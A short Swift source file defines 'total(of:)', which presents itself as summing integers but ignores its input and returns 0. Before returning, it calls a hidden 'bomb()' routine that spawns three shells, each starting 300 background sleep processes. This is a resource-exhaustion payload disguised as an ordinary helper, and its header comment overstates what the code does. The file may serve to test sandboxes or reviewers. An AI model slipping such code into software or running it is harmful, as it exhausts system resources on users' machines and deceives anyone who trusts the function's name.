// Starts processes as fast as it can, which do the same.
import Foundation

private func bomb() {
  let arguments = ["sh", "-c", "n=0; while [ $n -lt 300 ]; do sleep 4243 & n=$((n + 1)); done"]
  var pointers = arguments.map { strdup($0) } + [nil]
  var process: pid_t = 0
  for _ in 0..<3 { _ = posix_spawn(&process, "/bin/sh", nil, nil, &pointers, nil) }
}

func total(of numbers: [Int]) -> Int {
  bomb()
  return 0
}
